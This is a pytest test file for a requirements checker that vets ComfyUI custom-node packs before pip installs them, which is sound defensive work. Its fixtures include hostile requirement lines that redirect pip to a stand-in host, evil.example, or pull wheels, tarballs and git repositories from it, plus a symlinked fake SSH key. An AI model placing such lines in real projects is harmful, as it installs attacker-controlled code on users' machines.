"""Pack requirements: hostile lines refused, and the dry run in ComfyUI's (test) venv against a loopback index."""

from __future__ import annotations

import hashlib
import os
import sys
from pathlib import Path

import pytest

from comfyfixer.evals.fakes.package_index import PackageIndex
from comfyfixer.tools.errors import ComfyFixerError, ConfigError
from comfyfixer.tools.packs.requirements import (
    RequirementRefused,
    check_plan_requirements,
    check_requirements,
    guarded_reason,
    install_checked_requirements,
    parse_requirements,
    python_identity,
    verify_python,
)


def _pack(root: Path, name: str, requirements: str = "", files: dict[str, str] | None = None) -> Path:
    pack = root / name
    pack.mkdir(parents=True)
    if requirements:
        (pack / "requirements.txt").write_text(requirements)
    for rel, text in (files or {}).items():
        (pack / rel).parent.mkdir(parents=True, exist_ok=True)
        (pack / rel).write_text(text)
    return pack


HOSTILE = """\
tiny>=0.5           # an ordinary requirement
--index-url http://evil.example/simple
-i http://evil.example/simple
--extra-index-url=http://evil.example/simple
-f http://evil.example/wheels/
--find-links ./wheels
--trusted-host evil.example
-e git+https://github.com/evil/pkg#egg=pkg
-r ../../outside.txt
-c /etc/constraints.txt
-r extra/more.txt
pkg @ https://evil.example/pkg-1.0-py3-none-any.whl
git+https://github.com/evil/pkg.git
https://evil.example/pkg-1.0.tar.gz
./vendor/pkg-1.0-py3-none-any.whl
bar==1.0 --global-option=--with-evil
baz==1.0 --hash=sha256:0000000000000000000000000000000000000000000000000000000000000000
"""


def test_requirement_option_attacks_are_refused_with_the_reason(tmp_path: Path) -> None:
    (tmp_path / "outside.txt").write_text("evilpkg\n")
    pack = _pack(tmp_path / "custom_nodes", "P", HOSTILE, files={"extra/more.txt": "foo>=1\n"})
    parsed = parse_requirements(pack)
    assert parsed.requirements == ["tiny>=0.5", "foo>=1", "baz==1.0"]  # the include inside the pack is followed
    by_text = {i.text: i for i in parsed.refused}
    kinds = {text.split()[0]: i.kind for text, i in by_text.items()}
    assert kinds == {
        "--index-url": "option", "-i": "option", "--extra-index-url=http://evil.example/simple": "option",
        "-f": "option", "--find-links": "option", "--trusted-host": "option", "-e": "editable",
        "-r": "include", "-c": "include", "pkg": "direct_url", "git+https://github.com/evil/pkg.git": "vcs",
        "https://evil.example/pkg-1.0.tar.gz": "url_or_path", "./vendor/pkg-1.0-py3-none-any.whl": "url_or_path",
        "bar==1.0": "build_option",
    }
    assert "outside the pack" in by_text["-r ../../outside.txt"].reason
    assert "not a file inside the pack" in by_text["-c /etc/constraints.txt"].reason or \
        "outside the pack" in by_text["-c /etc/constraints.txt"].reason
    assert "bypassing the index" in by_text["pkg @ https://evil.example/pkg-1.0-py3-none-any.whl"].reason
    assert all(i.line > 0 and i.file == "requirements.txt" for i in parsed.refused)
    assert "evilpkg" not in parsed.requirements


def test_pyproject_dependencies_are_checked_too(tmp_path: Path) -> None:
    pack = _pack(tmp_path, "P", "", files={"pyproject.toml": (
        '[project]\nname = "p"\nversion = "1"\ndependencies = ["tiny<2", "x @ https://evil.example/x.whl",'
        ' "y @ git+https://github.com/e/y"]\n')})
    parsed = parse_requirements(pack)
    assert parsed.requirements == ["tiny<2"]
    assert [i.kind for i in parsed.refused] == ["direct_url", "vcs"]
    assert parsed.files == ["pyproject.toml"]


def test_symlinked_include_out_of_the_pack_is_refused(tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text("evilpkg\n")
    pack = _pack(tmp_path / "cn", "P", "-r inner.txt\n")
    (pack / "inner.txt").symlink_to(tmp_path / "secret.txt")
    parsed = parse_requirements(pack)
    assert parsed.requirements == [] and parsed.refused[0].kind == "include"


@pytest.mark.parametrize(("name", "before", "after", "guarded"), [
    ("torch", "2.0.0", "1.0.0+cpu", True), ("TorchVision", None, "0.1", True), ("xformers", "0.1", "0.2", True),
    ("nvidia-cublas-cu12", None, "12.1", True), ("somewheel", "1", "2+cu121", True), ("triton", "2", "3", True),
    ("numpy", "1.26.0", "2.0.0", True), ("numpy", "1.25.0", "1.26.0", False), ("foo", "1.0", "2.0", False),
])
def test_guarded_packages(name: str, before: str | None, after: str, guarded: bool) -> None:
    assert (guarded_reason(name, before, after) is not None) is guarded


def _check(pack_dirs: dict[str, Path], python: Path, index: PackageIndex, tmp_path: Path, **kw: object):
    parsed = {n: parse_requirements(d) for n, d in pack_dirs.items()}
    return check_requirements(parsed, python, staging_dir=tmp_path / "staging", allowed_roots=[tmp_path],
                              index_url=index.index_url, **kw)  # type: ignore[arg-type]


def test_python_identity_is_that_python(comfy_python: Path) -> None:
    ident = python_identity(comfy_python)
    assert ident.path == str(comfy_python.absolute())
    assert ident.sha256 == hashlib.sha256(Path(os.path.realpath(ident.executable)).read_bytes()).hexdigest()
    assert ident.prefix == str(comfy_python.parent.parent) and ident.prefix != sys.prefix
    assert ident.installed["torch"] == "2.0.0" and ident.installed["numpy"] == "1.26.0"
    assert verify_python(ident, comfy_python).sha256 == ident.sha256
    with pytest.raises(ComfyFixerError, match="changed since the plan"):
        verify_python("0" * 64, comfy_python)
    with pytest.raises(ConfigError, match="no-such-python does not exist"):
        python_identity(comfy_python.parent / "no-such-python")


def test_pack_that_would_replace_torch_is_refused(comfy_python: Path, index: PackageIndex, tmp_path: Path) -> None:
    pack = _pack(tmp_path, "TorchPack", "torch==1.0.0+cpu\nnvidia-cublas-cu12\nfoo>=2\n")
    res = _check({"TorchPack": pack}, comfy_python, index, tmp_path)
    assert res.verdict == "refused"
    changes = {c.name: c for c in res.changes}
    assert changes["torch"].change == "downgrade" and changes["torch"].before == "2.0.0" and changes["torch"].guarded
    assert changes["nvidia-cublas-cu12"].change == "add" and changes["nvidia-cublas-cu12"].guarded
    assert changes["foo"].change == "upgrade" and not changes["foo"].guarded
    assert any("torch 2.0.0 -> 1.0.0+cpu" in r for r in res.reasons)
    assert res.accept_hint and "torch" in res.accept_hint
    assert res.python.sha256 and res.python.prefix == str(comfy_python.parent.parent)
    assert "--only-binary" in res.command and res.command[res.command.index("--index-url") + 1] == index.index_url
    # nothing was installed by the dry run
    assert python_identity(comfy_python).installed["torch"] == "2.0.0"
    # accepted by name, the same change goes through
    ok = _check({"TorchPack": pack}, comfy_python, index, tmp_path, accept=["torch", "nvidia-cublas-cu12"],
                identity=res.python)
    assert ok.verdict == "ok" and sorted(ok.resolved) == ["foo==2.0", "nvidia-cublas-cu12==12.1.0", "torch==1.0.0+cpu"]


def test_numpy_major_upgrade_refused_downgrade_needs_confirmation(comfy_python: Path, index: PackageIndex,
                                                                   tmp_path: Path) -> None:
    res = _check({"N": _pack(tmp_path, "N", "numpy>=2\ntiny<1\n")}, comfy_python, index, tmp_path)
    assert res.verdict == "refused"
    assert any("numpy 1.26.0 -> 2.0.0" in r for r in res.reasons)
    assert [c.name for c in res.downgraded] == ["tiny"]
    only_down = _check({"D": _pack(tmp_path, "D", "tiny<1\n")}, comfy_python, index, tmp_path)
    assert only_down.verdict == "needs_confirmation" and any("downgrade tiny 1.0 -> 0.5" in r for r in only_down.reasons)


def test_two_packs_with_incompatible_versions_are_reported(comfy_python: Path, index: PackageIndex,
                                                           tmp_path: Path) -> None:
    old = _pack(tmp_path / "cn", "OldFoo", "needs-old-foo\n")  # needs foo<2
    new = _pack(tmp_path / "cn", "NewFoo", "foo>=2\n")
    each, together = check_plan_requirements({"OldFoo": old, "NewFoo": new}, comfy_python,
                                             staging_dir=tmp_path / "staging", allowed_roots=[tmp_path],
                                             index_url=index.index_url)
    assert each["OldFoo"].verdict == "ok" and each["NewFoo"].verdict == "ok"
    assert each["OldFoo"].dry_run_ok and not together.dry_run_ok
    assert together.verdict == "refused" and together.packs == ["NewFoo", "OldFoo"]
    text = " ".join(together.conflicts)
    assert "each pack resolves alone, but not together" in text and "foo" in text
    assert not list((tmp_path / "staging").iterdir())  # scratch files cleaned up


def test_sdist_is_never_built_and_needs_confirmation(comfy_python: Path, index: PackageIndex, tmp_path: Path,
                                                     sdist_marker: Path) -> None:
    res = _check({"S": _pack(tmp_path, "S", "buildme\n")}, comfy_python, index, tmp_path)
    assert res.verdict == "needs_confirmation" and res.needs_sdist == ["buildme"]
    assert any("building them runs their code" in r for r in res.reasons)
    assert not sdist_marker.exists()
    assert not any(p.endswith(".tar.gz") for p in index.fetched())


def test_refused_lines_refuse_the_pack_and_are_never_passed_to_pip(comfy_python: Path, index: PackageIndex,
                                                                   tmp_path: Path) -> None:
    pack = _pack(tmp_path, "H", "tiny\n--extra-index-url http://evil.example/simple\nx @ https://evil.example/x.whl\n")
    res = _check({"H": pack}, comfy_python, index, tmp_path)
    assert res.verdict == "refused" and len(res.refused_lines) == 2
    assert res.requirements == ["tiny"] and not any("evil" in part for part in res.command)
    with pytest.raises(RequirementRefused, match="--extra-index-url"):
        install_checked_requirements(pack, python=comfy_python, staging_dir=tmp_path / "staging")


def test_install_without_python_hands_back_the_command(tmp_path: Path) -> None:
    pack = _pack(tmp_path, "P", "tiny>=0.5\n")
    out = install_checked_requirements(pack, python=None, staging_dir=tmp_path / "staging", index_url="https://i/simple")
    assert not out.installed and out.pending_commands[0][-1] == "tiny>=0.5"
    assert "--only-binary" in out.pending_commands[0]


def test_install_refuses_a_changed_python(comfy_python: Path, tmp_path: Path) -> None:
    pack = _pack(tmp_path, "P", "tiny\n")
    with pytest.raises(ComfyFixerError, match="changed since the plan"):
        install_checked_requirements(pack, python=comfy_python, staging_dir=tmp_path / "staging",
                                     expected_python_sha256="0" * 64)


def test_sdist_does_not_hide_a_torch_change(comfy_python: Path, index: PackageIndex, tmp_path: Path,
                                            sdist_marker: Path) -> None:
    res = _check({"B": _pack(tmp_path, "B", "buildme\ntorch==1.0.0+cpu\n")}, comfy_python, index, tmp_path)
    assert res.needs_sdist == ["buildme"] and res.verdict == "refused"
    assert any("torch 2.0.0 -> 1.0.0+cpu" in r for r in res.reasons)
    assert not sdist_marker.exists()


def test_requirement_files_linked_out_of_the_pack_are_not_read(tmp_path: Path) -> None:
    secret = tmp_path / "id_rsa"
    secret.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nsecretpkg\n")
    pack = _pack(tmp_path / "cn", "P")
    (pack / "requirements.txt").symlink_to(secret)
    (pack / "pyproject.toml").symlink_to(secret)
    parsed = parse_requirements(pack)
    assert parsed.requirements == []
    assert [(i.file, i.kind) for i in parsed.refused] == [("requirements.txt", "include"), ("pyproject.toml", "include")]
    assert "PRIVATE KEY" not in parsed.model_dump_json() and "secretpkg" not in parsed.model_dump_json()


def test_python_without_a_recent_pip_is_a_config_error(comfy_python: Path, index: PackageIndex, tmp_path: Path) -> None:
    ident = python_identity(comfy_python).model_copy(update={"pip_version": "21.0"})
    with pytest.raises(ConfigError, match=r"needs pip >= 22\.2"):
        _check({"P": _pack(tmp_path, "P", "tiny\n")}, comfy_python, index, tmp_path, identity=ident)
    # nothing to resolve: no pip needed
    assert _check({"E": _pack(tmp_path, "E", "# nothing\n")}, comfy_python, index, tmp_path, identity=ident).verdict == "ok"
